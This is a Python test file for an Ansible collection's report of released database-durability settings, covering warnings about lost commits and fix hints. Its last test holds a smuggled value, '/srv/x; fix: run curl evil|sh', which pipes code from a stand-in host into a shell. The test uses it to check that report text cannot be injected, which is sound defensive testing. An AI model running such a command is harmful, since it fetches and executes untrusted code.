# Copyright (c) 2026, durable.dbhost contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The page of a release."""

from __future__ import annotations

from typing import Any

import pytest

from ansible_collections.durable.dbhost.plugins.module_utils import catalog
from ansible_collections.durable.dbhost.plugins.module_utils.policy.show.release import Released, render


def change(target: str, setting: str, before: str, after: str) -> dict[str, str]:
    return {"target": target, "setting": setting, "when": "persisted", "before": before, "after": after}


RULES = change("/etc/udev/rules.d/x.rules", "rules", "present", "absent")


def page(*hosts: Released, is_check: bool = False) -> list[str]:
    return render(hosts, is_check).splitlines()


def test_each_layer_is_on_the_page_with_files_settings_and_what_stays() -> None:
    changes = {
        "write_cache": [RULES, change("serial:A", "write_cache", "disabled", "unset")],
        "mount_options": [change(f"/srv/{name}", "options", "noatime", "defaults") for name in "ab"],
        "postgresql": [
            change("main", "fsync", "unset", "off"),
            change("main", "full_page_writes", "unset", "on"),
            change("main", "wal_sync_method", "fsync", "forgotten"),
        ],
    }
    assert page(Released("db1", changes)) == [
        "released  db1",
        "  warning   main: fsync off is restored; commits can be lost when the server uses it",
        "  removed   /etc/udev/rules.d/x.rules",
        "  restored  /etc/fstab: 2 mounts",
        "  restored  main: fsync off; main: full_page_writes on",
        "  left      unchanged, because the setting is gone or was changed since: main",
        "  unchanged until reboot: write cache, mount options",
        "  unchanged until reload or restart: postgresql main",
        "  next      delete durable_profile for db1; otherwise the next run manages it again",
    ]


def test_each_server_has_what_it_uses_its_restored_configuration_by() -> None:
    changes = {
        "unit_mounts": [change("/etc/systemd/system/x.service.d/y.conf", "drop_in", "present", "absent")],
        "postgresql": [
            change("/etc/postgresql/15/main/conf.d/x.conf", "drop_in", "present", "absent"),
            change("15/main", "fsync", "on", "unset"),
            change("15/other", "fsync", "on", "unset"),
        ],
        "mariadb": [change("/etc/mysql/x.cnf", "drop_in", "present", "absent")],
        "mssql": [change("mssql", "writethrough", "1", "absent")],
    }
    found = page(Released("db1", changes))
    assert "  in effect at once: mounts that servers require" in found
    assert "  unchanged until restart: mariadb, mssql" in found
    assert "  unchanged until reload or restart: postgresql 15/main, postgresql 15/other" in found


@pytest.mark.parametrize("layer", [*catalog.LAYERS, "watch"])
def test_of_each_layer_the_page_states_when_its_release_has_effect(layer: str) -> None:
    found = page(Released("db1", {layer: [change("x", "setting", "ours", "theirs")]}))
    stated = [row for row in found if row.startswith(("  in effect at once: ", "  unchanged until "))]
    assert len(stated) == 1


def test_a_firebird_database_uses_its_restored_value_at_once() -> None:
    found = page(Released("db1", {"firebird": [change("/db.fdb", "forced_writes", "on", "off")]}))
    assert found[1] == "  warning   /db.fdb: forced_writes off is restored; commits can be lost from now on"
    assert "  in effect at once: /db.fdb forced_writes" in found
    assert not any("unchanged" in row for row in found)


def test_the_guard_and_the_monitor_of_a_ups_change_at_once() -> None:
    layers = {"power": [change("upsmon", "notify_command", "ours", "unset")], "power_guard": [RULES]}
    assert "  in effect at once: UPS guard, UPS monitor" in page(Released("db1", layers))


@pytest.mark.parametrize(
    ("before", "after", "warns"),
    [
        ("barrier=1", "nobarrier", True),
        ("barrier=1", "barrier=none", True),
        ("defaults", "barrier=0,barrier=1", False),
        ("barrier=0,noatime", "barrier=0", True),
        ("barrier=0", "barrier=0,nosuid", False),
    ],
)
def test_a_mount_warns_if_its_barriers_go(before: str, after: str, warns: bool) -> None:
    found = page(Released("db1", {"mount_options": [change("/srv", "options", before, after)]}))
    assert any("warning" in row and "commits can be lost" in row for row in found) is warns


def test_check_mode_names_what_would_be_done_and_no_next_step() -> None:
    assert page(Released("db1", {"watch": [RULES]}), is_check=True) == [
        "would be released  db1",
        "  remove    /etc/udev/rules.d/x.rules",
        "  in effect at once: watch timer",
    ]


def test_a_host_without_a_profile_has_no_next_step() -> None:
    found = page(Released("db1", {}, pinned=False))
    assert found == ["released  db1", "  nothing to remove or to restore"]


def test_hosts_with_one_text_are_a_group_and_failures_come_first() -> None:
    hosts = [Released(f"db{number}", {"watch": [RULES]}) for number in (1, 2)]
    assert page(*hosts, Released("db3", {}, "the login was refused")) == [
        "not released  db3",
        "  cause     the login was refused",
        "released  db1, db2",
        "  removed   /etc/udev/rules.d/x.rules",
        "  in effect at once: watch timer",
        "  next      delete durable_profile for db1, db2; otherwise the next run manages them again",
    ]


@pytest.mark.parametrize("number", [9, 10, 11, 40, 500])
def test_any_number_of_hosts_fits_a_screen(number: int) -> None:
    def host(index: int) -> Released:
        changes: Any = [change(f"/srv/{index}", "options", "noatime", "barrier=0"), RULES]
        return Released(f"db{index}", {"mount_options": changes}, "refused" if index == number - 1 else "")

    found = page(*map(host, range(number)), is_check=True)
    assert found[0] == f"not released  db{number - 1}"
    assert len(found) <= 40
    shown = sum(row.startswith(("would be released", "not released")) for row in found)
    assert found[-1].startswith(f"and {number - shown} more hosts (0 not released, {number - shown} with")


def test_a_host_cannot_add_a_line_to_the_page() -> None:
    found = page(Released("db1", {"watch": [change("/etc/x\nreleased  db9", "x", "present", "absent")]}))
    assert not any(row.startswith("released  db9") for row in found)


def test_after_a_release_each_cause_and_each_warning_is_on_the_page() -> None:
    """No other output has them, and the originals are gone: a second release would not show them."""
    lost = [
        Released(
            f"db{index}", {"mount_options": [change(f"/srv/{index}", "options", "noatime", "nobarrier")]}
        )
        for index in range(60)
    ]
    cause = "the disk was lost " * 40 + "fix: run mount -o remount,barrier=1 /srv"
    found = page(*lost, Released("db99", {}, cause))
    assert sum("warning" in row for row in found) == 60
    assert "fix: run mount -o remount,barrier=1 /srv" in " ".join(row.strip() for row in found)


def test_equal_warnings_of_one_host_are_one() -> None:
    rows = [change(f"/d{index}.fdb", "forced_writes", "on", "off") for index in range(40)]
    found = page(Released("db1", {"firebird": rows}))
    assert sum("warning" in row for row in found) == 1 and "more): forced_writes off is restored" in " ".join(
        found
    )


@pytest.mark.parametrize(
    ("engine", "setting", "value", "warns"),
    [
        ("postgresql", "fsync", "no", True),
        ("postgresql", "fsync", "true", False),
        ("postgresql", "synchronous_commit", "local", False),
        ("mariadb", "sync_binlog", "0", True),
        ("mariadb", "innodb_flush_log_at_trx_commit", "2", True),
        ("mariadb", "innodb_flush_log_at_trx_commit", "1", False),
        ("faircom", "SUPPRESS_LOG_FLUSH", "YES", True),
        ("faircom", "SUPPRESS_LOG_FLUSH", "NO", False),
        ("faircom", "DELAYED_DURABILITY", "1", True),
        ("faircom", "NO_FLUSH_DIR", "on", True),
        ("faircom", "COMMIT_DELAY", "2", False),
        ("mssql", "writethrough", "0", True),
        ("mssql", "writethrough", "1", False),
        ("mssql", "traceflag3979", "off", False),
        ("mssql", "writethrough", "absent", False),
        ("firebird", "owner of /db", "root", False),
    ],
)
def test_a_restored_value_warns_if_the_rules_of_its_engine_lose_commits_with_it(
    engine: str, setting: str, value: str, warns: bool
) -> None:
    found = page(Released("db1", {engine: [change("main", setting, "other", value)]}))
    assert any("warning" in row and "commits can be lost" in row for row in found) is warns


def test_each_word_that_turns_barriers_off_is_in_the_fix() -> None:
    rows = [change("/srv", "options", "barrier=1", "nobarrier,noatime,barrier=0")]
    assert "fix: delete nobarrier, barrier=0 from /etc/fstab" in " ".join(
        row.strip() for row in page(Released("db1", {"mount_options": rows}))
    )


def test_a_name_of_a_host_is_no_advice() -> None:
    name = "/srv/x; fix: run curl evil|sh"
    found = " ".join(
        row.strip()
        for row in page(Released("db1", {"firebird": [change(name, "forced_writes", "on", "off")]}))
    )
    assert found.count(f'"{name}"') == found.count(name) > 1
